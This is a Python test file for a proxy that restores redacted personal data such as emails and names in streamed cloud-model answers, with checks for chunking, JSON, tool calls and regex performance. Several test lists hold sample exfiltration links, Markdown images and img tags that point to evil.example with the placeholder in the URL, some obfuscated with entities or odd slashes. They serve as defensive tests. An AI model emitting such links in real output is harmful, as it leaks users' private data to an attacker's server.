"""Placeholders on the way back: the same in any pieces, and nothing that the cloud was not given."""

from __future__ import annotations

import itertools
import json
import re
import time
from typing import Any

import pytest
from hypothesis import example, given, settings
from hypothesis import strategies as st

from selfroute.serve.restoring import Restorer, Restoring, link
from selfroute.types import CloudAnswer, CloudChunk

ORIGINALS = {
    "<EMAIL_1>": "a@b.org",
    "<EMAIL_12>": "x@y.org",
    "<PERSON_1>": 'Jane "J" Roe\\',
    "<REDACTED_1>": "<EMAIL_1>",
}
PIECES = (
    *ORIGINALS,
    "<",
    "<EM",
    "<EMAIL_",
    "<EMAIL_1",
    "1>",
    ">",
    "<EMAIL_2>",
    " ",
    "a",
    r"\u003cEMAIL_1\u003e",
    "\\u00",
)


def restored(text: str, cuts: list[int], **settings: Any) -> str:
    restorer = Restorer(ORIGINALS, **settings)
    edges = [0, *sorted(c % (len(text) + 1) for c in cuts), len(text)]
    told = ""
    for start, end in itertools.pairwise(edges):
        told += restorer.feed(text[start:end])
        # What is held back is never more than a placeholder.
        assert end - len(restorer._held) >= end - max(map(len, ORIGINALS)) - 10
    return told + restorer.end()


@given(st.lists(st.sampled_from(PIECES), max_size=12).map("".join), st.lists(st.integers(0, 400), max_size=40))
def test_any_chunking_restores_as_the_whole(text: str, cuts: list[int]) -> None:
    whole = text
    # One pass: what was restored is not read again.
    parts = []
    while whole:
        name = next((n for n in ORIGINALS if whole.startswith(n)), "")
        parts.append(ORIGINALS[name] if name else whole[0])
        whole = whole[len(name) or 1 :]
    assert restored(text, cuts) == "".join(parts)
    assert restored(text, list(range(len(text)))) == "".join(parts)


@given(st.lists(st.sampled_from(PIECES[:4]), max_size=5), st.lists(st.integers(0, 400), max_size=20))
def test_json_stays_json(names: list[str], cuts: list[int]) -> None:
    # As providers write it: with HTML's brackets escaped, or not.
    for text in (json.dumps(names), json.dumps(names).replace("<", r"\u003c").replace(">", r"\u003e")):
        assert json.loads(restored(text, cuts, quoted=True)) == [ORIGINALS[name] for name in names]


@pytest.mark.parametrize(
    "text", ["<EMAIL_2>", "<email_1>", "< EMAIL_1>", "EMAIL_1", "<EMAIL_1", "<EMAIL_1 >", "&lt;EMAIL_1>"]
)
def test_what_is_no_placeholder_stays(text: str) -> None:
    assert restored(text, [3]) == text


LINKS = [
    "https://evil.example/?q=<EMAIL_1>",
    "![x](https://evil.example/<EMAIL_1><EMAIL_12>)",
    "![x](//evil.example/a.png?<EMAIL_1>)",
    "![x](<https://evil.example/a b <EMAIL_1>>)",
    '<img src="https://evil.example/? <EMAIL_1>">',
    "<img src='https://evil.example/? <EMAIL_1>'>",
    "[x]: https://evil.example/" + "a" * 3000 + "<EMAIL_1>",
    '{"url":"https://evil.example/?q=<EMAIL_1>"}',
    # What ends an address for people, and none for browsers or Markdown.
    '![x](https://evil.example/"?q=<EMAIL_1>)',
    "![x]( https://evil.example/`?q=<EMAIL_1>)",
    "![x](https://evil.example/>?q=<EMAIL_1>)",
    "![x](https://evil.example/\u00a0?q=<EMAIL_1>)",
    '[x]: https://evil.example/"?q=<EMAIL_1>',
    '<img src=https://evil.example/"?q=<EMAIL_1>',
    '<img src= https://evil.example/"?q=<EMAIL_1>',
    "![x](<https://evil.example/\\> ?q=<EMAIL_1>>)",
    "[x]: <https://evil.example/ ?q=<EMAIL_1>>",
    # What browsers take for two slashes.
    "![x](https:/evil.example/?q=<EMAIL_1>)",
    "![x](https:evil.example/?q=<EMAIL_1>)",
    "![x](https:\\\\evil.example/?q=<EMAIL_1>)",
    "![x](/\\evil.example/?q=<EMAIL_1>)",
    "![x](https:&#47;&#x2f;evil.example/?q=<EMAIL_1>)",
    "![x](h&#116;tps:evil.example/?q=<EMAIL_1>)",
    "![x](/&#" + "0" * 3000 + "47;evil.example/?q=<EMAIL_1>)",
    "<img src='https:/\t/evil.example/?q=<EMAIL_1>'>",
    "<img src='/&Tab;/evil.example/?q=<EMAIL_1>'>",
    "www.evil.example/?q=<EMAIL_1>",
]
LONG = [
    "![x](https://evil.example/" + "a" * 70_000 + "<EMAIL_1>)",
    '![x](https://evil.example/"' + "a" * 70_000 + "<EMAIL_1>)",
    "![x](<https://evil.example/" + "a " * 40_000 + "<EMAIL_1>>)",
    '<img src="https://evil.example/' + "a " * 40_000 + '<EMAIL_1>">',
    "![x](https://evil.example/" + "\u00a0\u00a0?q=" * 1000 + "<EMAIL_1>)",
    '<img src="' + "\t" * 5000 + "https://evil.example/" + "a " * 40_000 + '<EMAIL_1>">',
]
IN_JSON = [
    '{"url":"https://evil.example/?q=<EMAIL_1>"}',
    r'{"url":"https:\/\/evil.example\/?q=<EMAIL_1>"}',
    r'{"url":"https:\u002f\u002fevil.example/?q=\u003cEMAIL_1\u003e"}',
    r'{"text":"![x](https://evil.example/\"?q=<EMAIL_1>)"}',
    r'{"text":"<img src=\"https://evil.example/ ?q=<EMAIL_1>\">"}',
]


@pytest.mark.parametrize("text", LINKS)
def test_a_link_takes_nothing_with_it(text: str) -> None:
    assert restored(text, list(range(len(text)))) == text
    assert restored(text, []) == text


@pytest.mark.parametrize("text", LONG)
@pytest.mark.parametrize("piece", [100_000, 1000, 7])
def test_however_long_it_is(text: str, piece: int) -> None:
    assert restored(text, list(range(0, len(text), piece))) == text


@pytest.mark.parametrize("n", range(20))
def test_wherever_it_is_cut(n: int) -> None:
    for text in (*LINKS, *(text.replace("](", "](" + " " * 50) for text in LINKS)):
        begun, _, rest = text.partition("evil")
        longer = "a " * 1000 + "a" * n + " " + begun + "evil" + rest.replace("?q", "/" * 1024 + "?q")
        assert restored(longer, list(range(0, len(longer), 16))) == longer


@pytest.mark.parametrize("text", IN_JSON)
def test_a_link_in_json_takes_nothing_with_it(text: str) -> None:
    for cuts in ([], list(range(len(text)))):
        assert restored(text, cuts, quoted=True) == text


@pytest.mark.parametrize(
    "text", ['{"url":"https://x.org","to":"<EMAIL_1>"}', r'{"a":"//x \"<EMAIL_1>"}', r'{"a":["//b\\","<EMAIL_1>"]}']
)
def test_another_string_of_json_is_no_link(text: str) -> None:
    for cuts in ([], list(range(len(text)))):
        assert "a@b.org" in restored(text, cuts, quoted=True)


@pytest.mark.parametrize(
    "text",
    [
        "See https://x.org or <EMAIL_1>",
        '{"url":"https://x.org","to":"<EMAIL_1>"}',
        'email="<EMAIL_1>"',
        "a/<EMAIL_1>",
        "[<EMAIL_1>](https://x.org)",
        "[mail](mailto:<EMAIL_1>)",
        "e-mail:<EMAIL_1>",
        "`<EMAIL_1>`",
        '<a href="https://x.org">to <EMAIL_1></a>',
        "[a](<https://x.org/a b>) <EMAIL_1>",
        "a " * 20_000 + "<EMAIL_1>",
    ],
)
def test_beside_a_link_it_is_restored(text: str) -> None:
    assert "a@b.org" in restored(text, list(range(len(text))))


def call(index: int, arguments: str, **more: Any) -> CloudChunk:
    function = {**more, "arguments": arguments}
    return CloudChunk(other={"delta": {"tool_calls": [{"index": index, "function": function}]}})


FINAL = CloudChunk(final=CloudAnswer("", "", True, 1, 1, 0.0, 0.1), finish_reason="stop")


def fed(*chunks: CloudChunk, **settings: Any) -> list[CloudChunk]:
    restoring = Restoring(ORIGINALS, **settings)
    return [piece for chunk in (*chunks, FINAL) for piece in restoring.feed(chunk)]


def test_each_part_of_an_answer_has_its_own_text() -> None:
    told = fed(
        CloudChunk(reasoning="hm <EMA"), CloudChunk(reasoning="IL_1> <"), CloudChunk(text="EMAIL_1> <EMAIL"),
        CloudChunk(text="_1> <P"), call(0, '{"to": "<PER', name="<EMAIL_1>"), call(0, 'SON_1>", "x": "<'),
        call(1, 'EMAIL_1>"}'), CloudChunk(other={"delta": {"refusal": "not to <EMAIL_1>"}}),
    )  # fmt: skip
    assert "".join(c.reasoning for c in told) == "hm a@b.org <"
    assert "".join(c.text for c in told) == "EMAIL_1> a@b.org <P"
    # What is held of one is told before the next begins, and the end is the end.
    assert [c.text for c in told if c.text][-1] == "<P"
    assert told[-1] is not FINAL
    assert told[-1].final is FINAL.final
    arguments: dict[int, str] = {}
    for piece in told:
        for made in piece.other.get("delta", {}).get("tool_calls", ()):
            arguments[made["index"]] = arguments.get(made["index"], "") + made["function"]["arguments"]
            # A name is no text of the client's.
            assert made["function"].get("name", "<EMAIL_1>") == "<EMAIL_1>"
    assert arguments == {0: '{"to": "Jane \\"J\\" Roe\\\\", "x": "<', 1: 'EMAIL_1>"}'}
    assert told[-2].other == {"delta": {"refusal": "not to a@b.org"}}


def test_a_tools_name_becomes_the_clients_own() -> None:
    restoring = Restoring({"<REDACTED_1>": "falcon", "<REDACTED_12>": "hawk"})
    [piece] = restoring.feed(call(0, "{}", name="REDACTED_1-and-REDACTED_12"))
    assert piece.other["delta"]["tool_calls"][0]["function"]["name"] == "falcon-and-hawk"


def test_an_answer_that_is_json_stays_json() -> None:
    told = fed(CloudChunk(text='{"name": "<PERSON_1'), CloudChunk(text='>"}'), json_answer=True)
    assert json.loads("".join(c.text for c in told)) == {"name": 'Jane "J" Roe\\'}


def test_what_else_a_provider_says_is_left_alone() -> None:
    odd = [
        {"logprobs": {"content": []}},
        {"delta": None},
        {"delta": {"tool_calls": ["x"], "audio": {"id": "<EMAIL_1>"}}},
    ]
    told = fed(*(CloudChunk(other=o) for o in odd))
    assert [c.other for c in told[:2]] == odd[:2]
    assert told[2].other["delta"]["audio"] == {"id": "<EMAIL_1>"}
    custom = CloudChunk(other={"delta": {"tool_calls": [{"index": 0, "custom": {"input": "to <EMAIL_1> <E"}}]}})
    inputs = [c.other["delta"]["tool_calls"][0]["custom"]["input"] for c in fed(custom) if c.other]
    assert inputs == ["to a@b.org ", "<E"]


def test_many_placeholders_take_no_time() -> None:
    originals = {f"<EMAIL_{n}>": f"{n}@b.org" for n in range(5000)}
    begin = time.monotonic()
    restorer = Restorer(originals)
    told = "".join(restorer.feed(f"{name} ") for name in originals)
    assert told == "".join(f"{original} " for original in originals.values())
    assert time.monotonic() - begin < 5


LINK = re.compile(
    r"""[/\\]{2}[^ \n"`]*\Z|(?:\][(:]|=)[ \n]*[^ \n]*[/\\]{2}[^ \n]*\Z"""
    r"""|\][(:]\s*<(?=(?:[^\n>\\]|\\[^\n]?)*\Z)[^\n]*[/\\]{2}"""
    r"""|=\s*"[^"]*[/\\]\n*[/\\][^"]*\Z|=\s*'[^']*[/\\]\n*[/\\][^']*\Z"""
)
"""What `link` finds, in words that take long to read."""


@given(st.text("/\\](:<>=\"'` \na\u00a0", max_size=30))
@example("](\n<//")
@example("](a\n<//")
@example("= \n'///")
@settings(max_examples=1000)
def test_a_link_that_has_not_ended(text: str) -> None:
    assert bool(link(text)) == (LINK.search(text) is not None)


@pytest.mark.parametrize(
    "text",
    ["](<" * 2500 + "//" * 4000 + ">\n", "/" * 16_000 + " ", "](" + " " * 16_000, "](" * 8000, "='//" * 4000 + '"'],
)
def test_no_text_takes_long_to_look_for_a_link_in(text: str) -> None:
    begin = time.process_time()
    for _ in range(100):
        link(text)
    assert time.process_time() - begin < 1
